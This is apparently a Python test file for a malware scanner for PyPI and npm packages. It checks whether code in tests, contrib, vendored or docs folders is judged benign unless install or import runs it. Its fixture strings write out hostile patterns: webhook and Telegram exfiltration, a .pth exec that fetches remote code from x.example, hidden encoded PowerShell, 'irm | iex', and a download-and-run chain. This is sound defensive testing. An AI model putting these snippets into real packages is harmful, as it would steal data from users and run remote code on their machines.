"""Scoring in context: a capability in a project's tests, contrib integrations, scripts or .pth
start-up hook of the benign kind is not a malicious verdict; the same code reached from install or
import time is, wherever it sits (the evasion a package that read verdict/context.py would try).

TEST FIXTURES, NOT MALWARE: the snippets only reproduce patterns as source text. The benign ones
are cut down from real packages: tqdm's contrib/telegram.py, psutil's tests, coverage's .pth."""

from __future__ import annotations

from verdict.fixtures import npm, sdist
from pkgtrace.model import Ecosystem
from pkgtrace.verdict.context import path_context

P, N = Ecosystem.PYPI, Ecosystem.NPM
SETUP = "from setuptools import setup\nsetup(name='pkg', version='1.0.0')\n"
# tqdm/contrib/telegram.py (abridged): a progress bar that reports to the user's own bot.
TQDM_TELEGRAM = ("import requests\nclass TelegramIO:\n    API = 'https://api.telegram.org/bot'\n"
                 "    def write(self, s):\n        requests.post(self.API + self.token + '/editMessageText',"
                 " data={'text': s})\n")
# The same shape with the bot's token written into the code: the sender's own bot.
BOT_EXFIL = TQDM_TELEGRAM.replace("/bot'", "/bot' + '8123456789:AAF1xvQ2mLr8Zp0kTq9wYe3uHs5dNc7bJgA'")
# psutil/tests/test_windows.py (abridged)
PSUTIL_TEST = ('import subprocess\ndef powershell(cmd):\n    cmd = "powershell.exe -ExecutionPolicy Bypass '
               '-NoLogo -NonInteractive -NoProfile -WindowStyle Hidden -Command %s" % cmd\n'
               "    return subprocess.check_output(cmd)\n")
# coverage's a1_coverage.pth
COVERAGE_PTH = ("import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\"):\\n"
                "    import coverage\\n    coverage.process_startup()\\n')\n")


def test_path_contexts():
    assert path_context("pkg/contrib/telegram.py") == "contrib"
    assert path_context("tests/test_windows.py") == "tests"
    assert path_context("pkg/test_x.py") == "tests"
    assert path_context("src/index.spec.ts") == "tests"
    assert path_context("docs/conf.py") == "docs"
    assert path_context("scripts/internal/purge.py") == "tooling"
    assert path_context("pkg/_vendor/six.py") == "vendored"
    assert path_context("dist/app.min.js") == "generated"
    assert path_context("pkg/core.py") == ""
    assert path_context("pkg/contributors.py") == ""
    assert path_context("chimera/eval/injection.py") == "tests"
    assert path_context("pkg/evaluate.py") == ""


def test_a_capability_in_contrib_tests_or_pth_startup_is_not_malicious(judged):
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "", "pkg/contrib/telegram.py": BOT_EXFIL}), P, "pkg")
    assert v["label"] == "benign", v
    assert v["findings"][0]["rule"] == "STATIC-WEBHOOK-EXFIL"  # still listed, for a person to check
    assert v["findings"][0]["evidence"]["context"] == "contrib"
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "", "tests/__init__.py": "import os\nimport socket\nimport requests\nHOST = socket.gethostname()\nENV = os.environ.copy()\n",
                             "tests/test_windows.py": PSUTIL_TEST}), P, "pkg")
    assert v["label"] == "benign", v
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "", "a1_pkg.pth": COVERAGE_PTH}), P, "pkg")
    assert v["label"] == "benign", v


def test_the_same_code_reached_from_import_or_install_counts_in_full(judged):
    # Imported from the package's __init__: runs at import.
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "from .contrib import telegram\n",
                             "pkg/contrib/__init__.py": "", "pkg/contrib/telegram.py": BOT_EXFIL}), P, "pkg")
    assert v["label"] == "malicious", v
    # Hidden in tests/ and imported by setup.py: runs at install.
    v = judged(sdist("pkg", {"setup.py": "import tests.helpers\n" + SETUP, "pkg/__init__.py": "",
                             "tests/__init__.py": "", "tests/helpers.py": PSUTIL_TEST}), P, "pkg")
    assert v["label"] == "malicious", v
    # Relative import chain two levels deep.
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "from . import util\n",
                             "pkg/util.py": "from .examples.demo import run\n",
                             "pkg/examples/__init__.py": "", "pkg/examples/demo.py": BOT_EXFIL}), P, "pkg")
    assert v["label"] == "malicious", v
    # A .pth that execs escaped or network code is still flagged.
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "",
                             "a1_pkg.pth": "import sys; exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73')\n"}), P, "pkg")
    assert v["label"] == "malicious", v
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "",
                             "a1_pkg.pth": "import sys; exec('import urllib.request as u; exec(u.urlopen(\"http://x.example\").read())')\n"}), P, "pkg")
    assert v["label"] == "malicious", v


def test_npm_tests_folder_versus_required_from_main(judged):
    hook = 'const https = require("https");\nhttps.get("https://discord.com/api/webhooks/1/x");\n'
    v = judged(npm("jspkg", {"index.js": "module.exports = 1;\n", "test/report.js": hook}), N, "jspkg")
    assert v["label"] == "benign", v
    v = judged(npm("jspkg", {"index.js": "require('./test/report');\n", "test/report.js": hook}), N, "jspkg")
    assert v["label"] == "malicious", v


def test_roles_follow_imports(judged):
    sysinfo = "import socket, requests\nrequests.post('https://c.example/h', data={'h': socket.gethostname()})\n"
    # Imported by setup.py: runs at install.
    v = judged(sdist("pkg", {"setup.py": "from pkg import net\n" + SETUP, "pkg/__init__.py": "", "pkg/net.py": sysinfo}), P, "pkg")
    assert next(f for f in v["findings"] if f["rule"] == "STATIC-SYSINFO-EXFIL")["evidence"]["role"] == "install"
    # Imported by nothing, or by __init__ (a module of definitions, mostly): the install/import
    # rule stays quiet; rules for any role still apply to it as shipping code.
    for init in ("", "from .net import *\n"):
        v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": init, "pkg/net.py": sysinfo}), P, "pkg")
        assert "STATIC-SYSINFO-EXFIL" not in v["rules_fired"]


def test_a_packed_python_line_is_not_discounted_as_a_minified_bundle(judged):
    # colors-update-style: the payload on one very long line of a .py file nothing imports;
    # "minified" is a bundler's (JS) doing and would otherwise halve the finding's weight
    packed = ("import base64, zlib\nexec(zlib.decompress(base64.b64decode('" + "A" * 9000 + "')))"
              + "; x = 1" * 200 + "\n")
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "", "pkg/colors_file.py": packed}), P, "pkg")
    f = next(f for f in v["findings"] if f["rule"] == "STATIC-PY-DECODE-EXEC")
    assert f["evidence"].get("context") in (None, "")
    assert v["label"] != "benign", v
    # a minified JS bundle is still what a bundler wrote
    assert path_context("dist/app.js", minified=True) == "generated"


# yarn-4.0.2.cjs (abridged, its PowerShell call made hidden and encoded): a bundled release of a
# tool checked in under .yarn/releases (@nivinjoseph/n-svc)
YARN_RELEASE = ('var a0,Ek;if(process.env.PSModulePath){a0="powershell.exe",'
                'Ek=["-WindowStyle","Hidden","-EncodedCommand","SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"]}\n')


def test_checked_in_tooling_copies_and_type_declarations_are_not_shipping_code(judged):
    assert path_context(".yarn/releases/yarn-4.0.2.cjs") == "vendored"
    assert path_context(".node_modules.ember-try/debug/src/node.js") == "vendored"
    assert path_context("node_modules_backup/x/index.js") == "vendored"
    assert path_context("dist/index.d.ts") == "generated" and path_context("dist/index.d.mts") == "generated"
    assert path_context("src/nodemodules.js") == ""
    assert path_context("venv/Lib/site-packages/huggingface_hub/hf_api.py") == "vendored"
    assert path_context("pkg-1.0.dist-info/METADATA") == "docs" and path_context("PKG-INFO") == "docs"
    assert path_context("pkg/metadata") == ""
    v = judged(npm("jspkg", {"index.js": "module.exports = 1;\n", ".yarn/releases/yarn-4.0.2.cjs": YARN_RELEASE}), N, "jspkg")
    assert v["label"] == "benign", v
    assert v["findings"][0]["evidence"]["context"] == "vendored"


def test_a_payload_in_dot_yarn_or_a_declaration_file_counts_once_it_runs(judged):
    # required from the main file, or run by an install script: shipping code, wherever it sits
    v = judged(npm("jspkg", {"index.js": "require('./.yarn/releases/yarn.cjs');\n", ".yarn/releases/yarn.cjs": YARN_RELEASE}), N, "jspkg")
    assert v["label"] == "malicious", v
    v = judged(npm("jspkg", {"index.js": "module.exports = 1;\n", ".yarn/plugins/p.cjs": YARN_RELEASE},
                   scripts={"postinstall": "node .yarn/plugins/p.cjs"}), N, "jspkg")
    assert v["label"] == "malicious", v
    v = judged(npm("jspkg", {"index.js": "require('./types.d.ts');\n", "types.d.ts": YARN_RELEASE}), N, "jspkg")
    assert v["label"] == "malicious", v


def test_a_download_run_chain_hidden_in_tests_and_imported_by_setup_counts_in_full(judged):
    chain = ("import requests, subprocess, sys\ndef fetch(u):\n    r = requests.get(u)\n"
             "    with open('stage.py', 'wb') as f:\n        f.write(r.content)\n"
             "    subprocess.Popen([sys.executable, 'stage.py'])\n")
    v = judged(sdist("pkg", {"setup.py": "from tests.helpers import fetch\n" + SETUP, "pkg/__init__.py": "",
                             "tests/__init__.py": "", "tests/helpers.py": chain}), P, "pkg")
    f = next(f for f in v["findings"] if f["rule"] == "STATIC-DOWNLOAD-RUN-SCRIPT")
    assert f["evidence"].get("context") in (None, "") and v["label"] != "benign", v
    # the same helper that nothing runs is a test's business
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "", "tests/__init__.py": "", "tests/helpers.py": chain}), P, "pkg")
    assert v["label"] == "benign", v


def test_a_readme_in_wheel_metadata_is_documentation(judged):
    # amazon-monitor, anki-yaml-tool: the README's install instructions inside METADATA
    readme = 'Summary: x\n\n# What it detects\n    powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\n'
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": ""}, headers=readme), P, "pkg")
    assert v["label"] == "benign", v
    assert [f["evidence"]["context"] for f in v["findings"] if f["rule"] == "STATIC-POWERSHELL-HIDDEN"] == ["docs"]
    # the same command in code that runs is not documentation
    v = judged(sdist("pkg", {"setup.py": "import os\nos.system('powershell -ExecutionPolicy ByPass -c \"irm https://tool.example/i.ps1 | iex\"')\n" + SETUP,
                             "pkg/__init__.py": ""}), P, "pkg")
    assert v["label"] == "malicious", v



def test_a_shipped_virtualenv_is_third_party_code(judged):
    hook = "import requests\nrequests.post('https://webhook.site/a2176e82-5720-43ee-9e06-f91cb4c91548', json={})\n"
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "", "venv/Lib/site-packages/hub/api.py": hook}), P, "pkg")
    assert v["label"] == "benign" and v["findings"][0]["evidence"]["context"] == "vendored", v
    # the same file where the package's own code lives is not
    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "", "pkg/hub/api.py": hook}), P, "pkg")
    assert v["label"] == "malicious", v
